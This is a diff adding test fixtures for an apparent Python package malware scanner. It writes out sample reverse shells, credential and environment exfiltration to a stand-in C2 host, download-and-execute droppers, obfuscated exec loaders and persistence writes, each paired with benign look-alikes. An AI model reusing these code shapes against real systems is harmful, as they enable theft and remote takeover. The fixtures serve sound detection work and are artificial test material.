@@ -1,7 +1,646 @@
-"""Per-rule fixtures for the behavior rules (see fixtures.py for the conventions)."""
+"""Per-rule fixtures for the behavior rules (see fixtures.py for the conventions).
+
+Harmless by construction: payloads decode to ``print("FIXTURE_OK")``, hosts are
+on ``*.example.invalid``, every file exists only as in-memory bytes.
+"""
 
 from __future__ import annotations
 
+import base64
+import zlib
+
+from depvet.files import FileRole, FileView
+from tests.builders import HARMLESS_B64, HARMLESS_PAYLOAD
 from tests.detectors.fixture_types import RuleFixtures
 
-FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {}
+C2 = "https://c2.example.invalid/collect"
+HARMLESS_ZLIB_B64 = base64.b64encode(zlib.compress(HARMLESS_PAYLOAD.encode())).decode()
+HARMLESS_HEX = HARMLESS_PAYLOAD.encode().hex()
+HARMLESS_CHRS = ", ".join(str(ord(c)) for c in HARMLESS_PAYLOAD)
+HARMLESS_REVERSED = HARMLESS_PAYLOAD[::-1]
+
+
+def module(text: str, path: str = "pkg/__init__.py") -> FileView:
+    """A module of an installed package."""
+    return FileView(path=path, role=FileRole.PYTHON, data=text.encode())
+
+
+def startup(text: str) -> FileView:
+    """A sitecustomize.py at the top of site-packages."""
+    return FileView(path="sitecustomize.py", role=FileRole.CUSTOMIZE, data=text.encode())
+
+
+def setup_py(text: str) -> FileView:
+    """A setup.py at the root of an sdist."""
+    return FileView(path="pkg-1.0/setup.py", role=FileRole.SETUP, data=text.encode())
+
+
+# -- decode → exec ------------------------------------------------------------------------------
+
+DECODE_EXEC_SHAPES = {
+    "b64": f"import base64\nexec(base64.b64decode('{HARMLESS_B64}'))\n",
+    "zlib": (
+        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{HARMLESS_ZLIB_B64}')))\n"
+    ),
+    "marshal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n",
+    "rot13": "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
+    "fromhex": f"exec(bytes.fromhex('{HARMLESS_HEX}'))\n",
+    "chr-join": f"exec(''.join(chr(c) for c in [{HARMLESS_CHRS}]))\n",
+    "reversed": f"code = '{HARMLESS_REVERSED}'\nexec(code[::-1])\n",
+    "lambda-chain": (
+        "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+        f"exec((_)(b'{HARMLESS_ZLIB_B64[::-1]}'))\n"
+    ),
+    "aliased": (
+        f"from base64 import b64decode as d\nimport builtins as b\nb.exec(d('{HARMLESS_B64}'))\n"
+    ),
+}
+DECODE_EXEC_IN_FUNCTION = f"""\
+import base64
+
+def run_plugin():
+    exec(base64.b64decode("{HARMLESS_B64}"))
+"""
+DECODE_EXEC_REACHED = f"""\
+import base64
+
+def _init():
+    exec(base64.b64decode("{HARMLESS_B64}"))
+
+_init()
+"""
+VERSION_EXEC = """\
+import os
+about = {}
+with open(os.path.join(os.path.dirname(__file__), "__version__.py")) as f:
+    exec(f.read(), about)
+exec(open("version.py").read())
+exec("VERSION = '1.0'")
+"""
+B64_NOT_EXECUTED = f"""\
+import base64
+ICON = base64.b64decode("{HARMLESS_B64}")
+"""
+
+# -- dynamic exec ---------------------------------------------------------------------------------
+
+EXEC_DYNAMIC = """\
+import os
+exec(os.environ.get("PKG_BOOT", ""))
+"""
+EXEC_TEMPLATE_IN_FUNCTION = """\
+def make_class(name, fields):
+    src = "class %s:\\n    __slots__ = %r\\n" % (name, fields)
+    ns = {}
+    exec(src, ns)
+    return ns[name]
+"""
+
+# -- download → execute ---------------------------------------------------------------------------
+
+DOWNLOAD_EXEC_EVAL = f"""\
+from urllib.request import urlopen
+exec(urlopen("{C2}/stage2.py").read())
+"""
+DOWNLOAD_PYZ_RUN = f"""\
+import subprocess, sys, urllib.request
+
+def _bootstrap():
+    data = urllib.request.urlopen("{C2}/tool.pyz").read()
+    with open("/tmp/tool.pyz", "wb") as f:
+        f.write(data)
+    subprocess.Popen([sys.executable, "/tmp/tool.pyz"])
+
+_bootstrap()
+"""
+DOWNLOAD_BINARY_CHMOD = f"""\
+import os, requests
+r = requests.get("{C2}/bin")
+open("/tmp/.cache-helper", "wb").write(r.content)
+os.chmod("/tmp/.cache-helper", 0o755)
+os.system("/tmp/.cache-helper &")
+"""
+DOWNLOAD_ONLY_SAVE = f"""\
+import requests
+
+def fetch_dataset(path):
+    r = requests.get("{C2}/data.csv")
+    with open(path, "wb") as f:
+        f.write(r.content)
+"""
+DOWNLOAD_TOOL_RUNTIME = f"""\
+import os, stat, subprocess, urllib.request
+
+def install_helper(dest):
+    urllib.request.urlretrieve("{C2}/helper", dest)
+    os.chmod(dest, stat.S_IRWXU)
+    subprocess.check_call([dest, "--version"])
+"""
+
+# -- dropper (litellm proxy_server.py shape) ----------------------------------------------------
+
+DROPPER = f"""\
+import base64, os, subprocess, sys, tempfile
+_p = os.path.join(tempfile.gettempdir(), "p.py")
+with open(_p, "w") as _f:
+    _f.write(base64.b64decode("{HARMLESS_B64}").decode())
+subprocess.run([sys.executable, _p])
+"""
+WRITES_DECODED_ICON = f"""\
+import base64
+
+def save_icon(path):
+    with open(path, "wb") as f:
+        f.write(base64.b64decode("{HARMLESS_B64}"))
+"""
+
+# -- processes at import -------------------------------------------------------------------------
+
+IMPORT_GIT = """\
+import subprocess
+try:
+    REVISION = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
+except Exception:
+    REVISION = "unknown"
+"""
+CLI_SUBPROCESS = """\
+import subprocess, sys
+
+def main():
+    subprocess.run(["git", "status"], check=True)
+
+if __name__ == "__main__":
+    main()
+    subprocess.run(["ls"])
+"""
+IMPORT_CURL = f"""\
+import os
+os.system("curl -fsSL {C2}/x.sh | sh")
+"""
+IMPORT_POWERSHELL_LIST = """\
+import subprocess
+cmd = ["powershell", "-NoP", "-C", "Invoke-WebRequest -Uri x -OutFile y"]
+subprocess.Popen(cmd)
+"""
+RUNTIME_CURL = f"""\
+import subprocess
+
+def update():
+    subprocess.check_call(["curl", "-o", "x", "{C2}"])
+"""
+
+# -- network at import ---------------------------------------------------------------------------
+
+IMPORT_URLOPEN = f"""\
+import urllib.request
+CONFIG = urllib.request.urlopen("{C2}/config.json").read()
+"""
+SOCKET_AT_IMPORT = """\
+import socket
+_s = socket.socket()
+_s.connect(("c2.example.invalid", 443))
+"""
+SDK_CLIENT = """\
+import os
+import requests
+
+API_KEY = os.environ.get("EXAMPLE_API_KEY")
+
+class Client:
+    def __init__(self, key=API_KEY):
+        self.key = key
+
+    def get(self, path):
+        return requests.get("https://api.example.invalid" + path,
+                            headers={"Authorization": "Bearer " + self.key})
+"""
+
+# -- environment ---------------------------------------------------------------------------------
+
+ENV_TO_FILE = """\
+import json, os
+with open("/tmp/env.json", "w") as f:
+    f.write(json.dumps(dict(os.environ)))
+"""
+ENV_SUBPROCESS = """\
+import os, subprocess
+
+def run_tool(args):
+    env = dict(os.environ)
+    env["PYTHONPATH"] = "."
+    return subprocess.run(args, env=env)
+"""
+ENV_POST = f"""\
+import os, requests
+requests.post("{C2}", json=dict(os.environ))
+"""
+ENV_B64_GET = f"""\
+import base64, json, os
+from urllib.request import urlopen
+
+def report():
+    data = base64.b64encode(json.dumps({{k: v for k, v in os.environ.items()}}).encode())
+    urlopen("{C2}?d=" + data.decode())
+
+report()
+"""
+ENV_ITEMS_LOOP = """\
+import os, socket
+payload = {}
+for k, v in os.environ.items():
+    payload[k] = v
+s = socket.create_connection(("c2.example.invalid", 443))
+s.sendall(str(payload).encode())
+"""
+ENV_ONE_KEY = """\
+import os, requests
+
+def call():
+    token = os.environ["EXAMPLE_TOKEN"]
+    return requests.get("https://api.example.invalid/me", headers={"X-Token": token})
+"""
+
+# -- host beacon ---------------------------------------------------------------------------------
+
+BEACON_SETUP = f"""\
+import getpass, os, socket, requests
+from setuptools import setup
+requests.get("{C2}", params={{"h": socket.gethostname(), "u": getpass.getuser(),
+                             "d": os.getcwd()}})
+setup(name="x", version="99.0")
+"""
+BEACON_DNS = """\
+import socket, platform
+label = platform.node().replace(".", "-") + ".c2.example.invalid"
+socket.gethostbyname(label)
+"""
+BEACON_IMPORT_ENV_USER = f"""\
+import os
+from urllib.request import urlopen
+urlopen("{C2}/" + os.environ.get("USER", "?"))
+"""
+LOCAL_IP = """\
+import socket
+HOSTNAME = socket.gethostname()
+LOCAL_IP = socket.gethostbyname(HOSTNAME)
+"""
+TELEMETRY_RUNTIME = """\
+import socket, requests
+
+def send_event(event):
+    event["server_name"] = socket.gethostname()
+    requests.post("https://errors.example.invalid/api/store", json=event)
+"""
+
+# -- credentials ---------------------------------------------------------------------------------
+
+READ_SSH_KEY = """\
+import os
+
+def load_key():
+    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
+        return f.read()
+"""
+READ_AWS_PATHLIB = """\
+from pathlib import Path
+CREDS = (Path.home() / ".aws/credentials").read_text()
+"""
+STEAL_SSH = f"""\
+import os, requests
+
+def grab():
+    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    requests.post("{C2}", data={{"k": key}})
+
+grab()
+"""
+STEAL_BROWSER = """\
+import os, sqlite3, shutil, socket
+
+def go():
+    db = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default",
+                      "Login Data")
+    rows = sqlite3.connect(db).execute("select * from logins").fetchall()
+    s = socket.create_connection(("c2.example.invalid", 443))
+    s.sendall(repr(rows).encode())
+"""
+HARVEST = """\
+import glob, os
+TARGETS = [
+    "~/.ssh/id_*",
+    "~/.aws/credentials",
+    "~/.kube/config",
+    "~/.config/discord/Local Storage/leveldb",
+]
+
+def collect():
+    out = []
+    for pattern in TARGETS:
+        out.extend(glob.glob(os.path.expanduser(pattern)))
+    return out
+"""
+SSH_CONFIG_DOC = '''\
+"""Reads ~/.ssh/config for host aliases (see ssh_config(5)); keys stay with the agent."""
+import os
+
+def ssh_config_path():
+    return os.path.expanduser("~/.ssh/config")
+
+def hosts():
+    with open(ssh_config_path()) as f:
+        return [line.split()[1] for line in f if line.startswith("Host ")]
+'''
+AWS_SDK_LIKE = """\
+import os, configparser
+
+def load_credentials():
+    path = os.path.expanduser("~/.aws/credentials")
+    parser = configparser.ConfigParser()
+    parser.read(path)
+    return parser
+"""
+
+# -- monkeypatching ------------------------------------------------------------------------------
+
+PATCH_INIT = """\
+from somesdk import Client
+_original = Client.__init__
+
+def _init(self, *args, **kwargs):
+    _original(self, *args, **kwargs)
+    _seen.append(kwargs.get("token"))
+
+_seen = []
+Client.__init__ = _init
+"""
+PATCH_INIT_NETWORK = f"""\
+import urllib.request
+from somesdk import CryptoClient
+_orig = CryptoClient.__init__
+
+def _hook(self, token, *a, **kw):
+    urllib.request.urlopen("{C2}?t=" + token)
+    _orig(self, token, *a, **kw)
+
+setattr(CryptoClient, "__init__", _hook)
+"""
+LOCAL_CLASS_PATCH = """\
+class Point:
+    pass
+
+def _init(self, x=0):
+    self.x = x
+
+Point.__init__ = _init
+"""
+PATCH_IN_FUNCTION = """\
+import flask
+
+def setup_once():
+    old = flask.Flask.__call__
+    def patched(self, environ, start_response):
+        return old(self, environ, start_response)
+    flask.Flask.__call__ = patched
+"""
+
+# -- obfuscated imports --------------------------------------------------------------------------
+
+OBF_IMPORT_CHR = """\
+m = __import__("".join(map(chr, [111, 115])))
+getattr(m, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("id")
+"""
+OBF_IMPORT_B64 = """\
+import base64, importlib
+mod = importlib.import_module(base64.b64decode("b3M=").decode())
+"""
+OBF_GETATTR_BUILTINS = """\
+import builtins
+fn = getattr(builtins, "cexe"[::-1])
+"""
+PLUGIN_LOADER = """\
+import importlib
+
+def load(name):
+    return importlib.import_module("pkg.plugins." + name)
+
+def handler(obj, kind):
+    return getattr(obj, "visit_" + kind)
+"""
+
+# -- reverse shell -------------------------------------------------------------------------------
+
+REVERSE_DUP2 = """\
+import os, socket, subprocess
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("c2.example.invalid", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])
+"""
+REVERSE_PTY = """\
+import os, pty, socket
+
+def shell():
+    s = socket.create_connection(("c2.example.invalid", 4444))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    pty.spawn("/bin/bash")
+"""
+REVERSE_POPEN = """\
+import socket, subprocess
+s = socket.socket()
+s.connect(("c2.example.invalid", 4444))
+subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
+"""
+PTY_TERMINAL = """\
+import os, pty, socket
+
+def spawn_terminal(argv):
+    pid, fd = pty.fork()
+    if pid == 0:
+        os.execvp(argv[0], argv)
+    os.dup2(fd, 0)
+    return fd
+
+def ping(host):
+    return socket.create_connection((host, 80))
+"""
+
+# -- steganography -------------------------------------------------------------------------------
+
+STEGO_WAV = f"""\
+import base64, io, wave, urllib.request
+
+def _load():
+    raw = urllib.request.urlopen("{C2}/ring.wav").read()
+    with wave.open(io.BytesIO(raw)) as w:
+        frames = w.readframes(w.getnframes())
+    key = 0x5A
+    data = base64.b64decode(bytes(b ^ key for b in frames))
+    exec(data)
+
+_load()
+"""
+STEGO_PIXELS = """\
+from PIL import Image
+img = Image.open("logo.png")
+bits = "".join(str(p[0] & 1) for p in img.getdata())
+code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
+exec(code)
+"""
+AUDIO_TOOL = """\
+import wave
+
+def duration(path):
+    with wave.open(path) as w:
+        frames = w.readframes(w.getnframes())
+        return len(frames) / w.getframerate()
+"""
+
+# -- persistence ---------------------------------------------------------------------------------
+
+SYSTEMD_UNIT = """\
+import os, subprocess
+unit = os.path.expanduser("~/.config/systemd/user/telemetry.service")
+os.makedirs(os.path.dirname(unit), exist_ok=True)
+with open(unit, "w") as f:
+    f.write("[Service]\\nExecStart=/usr/bin/python3 /tmp/x.py\\n")
+subprocess.run(["systemctl", "--user", "enable", "--now", "telemetry.service"])
+"""
+BASHRC_APPEND = """\
+import os
+with open(os.path.expanduser("~/.bashrc"), "a") as f:
+    f.write("python3 ~/.cache/x.py &\\n")
+"""
+RUN_KEY = """\
+import subprocess
+subprocess.call('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run '
+                '/v updater /t REG_SZ /d "pythonw x.pyw" /f', shell=True)
+"""
+SHELL_SETUP_TOOL = """\
+import os
+
+def ensure_path(line):
+    rc = os.path.expanduser("~/.bashrc")
+    with open(rc, "a") as f:
+        f.write(line + "\\n")
+"""
+READ_BASHRC = """\
+import os
+with open(os.path.expanduser("~/.bashrc")) as f:
+    ALIASES = [l for l in f if l.startswith("alias")]
+"""
+
+
+FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
+    "decode-exec": RuleFixtures(
+        positive=[module(src, f"pkg/{name}.py") for name, src in DECODE_EXEC_SHAPES.items()]
+        + [module(DECODE_EXEC_REACHED), startup(DECODE_EXEC_SHAPES["b64"])],
+        benign=[
+            module(DECODE_EXEC_IN_FUNCTION),
+            module(VERSION_EXEC),
+            module(B64_NOT_EXECUTED),
+            module(
+                f"if __name__ == '__main__':\n{DECODE_EXEC_SHAPES['b64']}".replace(
+                    "\nexec", "\n    exec"
+                )
+            ),
+            # setup_hooks reports it for setup.py (setup-install-decode-exec).
+            setup_py(DECODE_EXEC_SHAPES["b64"]),
+        ],
+    ),
+    "decode-exec-runtime": RuleFixtures(
+        positive=[module(DECODE_EXEC_IN_FUNCTION), setup_py(DECODE_EXEC_IN_FUNCTION)],
+        benign=[module(DECODE_EXEC_SHAPES["b64"]), module(EXEC_TEMPLATE_IN_FUNCTION)],
+    ),
+    "import-exec-dynamic": RuleFixtures(
+        positive=[module(EXEC_DYNAMIC)],
+        benign=[module(VERSION_EXEC), module(EXEC_TEMPLATE_IN_FUNCTION)],
+    ),
+    "download-exec": RuleFixtures(
+        positive=[
+            module(DOWNLOAD_EXEC_EVAL),
+            module(DOWNLOAD_PYZ_RUN),
+            module(DOWNLOAD_BINARY_CHMOD),
+            setup_py(DOWNLOAD_PYZ_RUN),
+        ],
+        benign=[module(DOWNLOAD_ONLY_SAVE), module(DOWNLOAD_TOOL_RUNTIME), module(SDK_CLIENT)],
+    ),
+    "download-run-runtime": RuleFixtures(
+        positive=[module(DOWNLOAD_TOOL_RUNTIME)],
+        benign=[module(DOWNLOAD_ONLY_SAVE), module(DOWNLOAD_PYZ_RUN)],
+    ),
+    "dropper-write-run": RuleFixtures(
+        positive=[module(DROPPER, "litellm/proxy/proxy_server.py"), setup_py(DROPPER)],
+        benign=[module(WRITES_DECODED_ICON), module(CLI_SUBPROCESS)],
+    ),
+    "import-process": RuleFixtures(
+        positive=[module(IMPORT_GIT), module(IMPORT_CURL), startup(IMPORT_GIT)],
+        benign=[module(CLI_SUBPROCESS), module(ENV_SUBPROCESS), setup_py(IMPORT_GIT)],
+    ),
+    "import-shell-download": RuleFixtures(
+        positive=[module(IMPORT_CURL), module(IMPORT_POWERSHELL_LIST)],
+        benign=[module(IMPORT_GIT), module(RUNTIME_CURL), setup_py(IMPORT_CURL)],
+    ),
+    "import-network": RuleFixtures(
+        positive=[module(IMPORT_URLOPEN), module(SOCKET_AT_IMPORT)],
+        benign=[module(SDK_CLIENT), module(LOCAL_IP.replace("gethostbyname", "getfqdn"))],
+    ),
+    "env-dump": RuleFixtures(
+        positive=[module(ENV_TO_FILE)],
+        benign=[module(ENV_SUBPROCESS), module(ENV_ONE_KEY)],
+    ),
+    "env-exfiltration": RuleFixtures(
+        positive=[module(ENV_POST), module(ENV_B64_GET), module(ENV_ITEMS_LOOP)],
+        benign=[module(ENV_SUBPROCESS), module(ENV_ONE_KEY), module(SDK_CLIENT)],
+    ),
+    "host-beacon": RuleFixtures(
+        positive=[setup_py(BEACON_SETUP), module(BEACON_DNS), module(BEACON_IMPORT_ENV_USER)],
+        benign=[module(LOCAL_IP), module(TELEMETRY_RUNTIME), module(SDK_CLIENT)],
+    ),
+    "host-info-network": RuleFixtures(
+        positive=[module(TELEMETRY_RUNTIME)],
+        benign=[module(LOCAL_IP), module(SDK_CLIENT), module(BEACON_DNS)],
+    ),
+    "credential-file-read": RuleFixtures(
+        positive=[module(READ_SSH_KEY), module(READ_AWS_PATHLIB), module(STEAL_BROWSER)],
+        benign=[module(SSH_CONFIG_DOC), module(SDK_CLIENT)],
+    ),
+    "credential-exfiltration": RuleFixtures(
+        positive=[module(STEAL_SSH), module(STEAL_BROWSER)],
+        benign=[module(READ_SSH_KEY), module(AWS_SDK_LIKE), module(SDK_CLIENT)],
+    ),
+    "credential-harvest": RuleFixtures(
+        positive=[module(HARVEST)],
+        benign=[module(AWS_SDK_LIKE), module(READ_SSH_KEY), module(SSH_CONFIG_DOC)],
+    ),
+    "dunder-monkeypatch": RuleFixtures(
+        positive=[module(PATCH_INIT), module(PATCH_INIT_NETWORK)],
+        benign=[module(LOCAL_CLASS_PATCH), module(PATCH_IN_FUNCTION)],
+    ),
+    "dunder-monkeypatch-network": RuleFixtures(
+        positive=[module(PATCH_INIT_NETWORK)],
+        benign=[module(PATCH_INIT), module(LOCAL_CLASS_PATCH), module(PATCH_IN_FUNCTION)],
+    ),
+    "obfuscated-import": RuleFixtures(
+        positive=[module(OBF_IMPORT_CHR), module(OBF_IMPORT_B64), module(OBF_GETATTR_BUILTINS)],
+        benign=[module(PLUGIN_LOADER)],
+    ),
+    "reverse-shell": RuleFixtures(
+        positive=[module(REVERSE_DUP2), module(REVERSE_PTY), module(REVERSE_POPEN)],
+        benign=[module(PTY_TERMINAL), module(SOCKET_AT_IMPORT), module(CLI_SUBPROCESS)],
+    ),
+    "stego-exec": RuleFixtures(
+        positive=[module(STEGO_WAV, "telnyx/_client.py"), module(STEGO_PIXELS)],
+        benign=[module(AUDIO_TOOL), module(DECODE_EXEC_SHAPES["b64"])],
+    ),
+    "persistence-write": RuleFixtures(
+        positive=[module(SYSTEMD_UNIT), module(BASHRC_APPEND), module(RUN_KEY)],
+        benign=[module(SHELL_SETUP_TOOL), module(READ_BASHRC)],
+    ),
+    "persistence-write-runtime": RuleFixtures(
+        positive=[module(SHELL_SETUP_TOOL)],
+        benign=[module(READ_BASHRC), module(BASHRC_APPEND)],
+    ),
+}
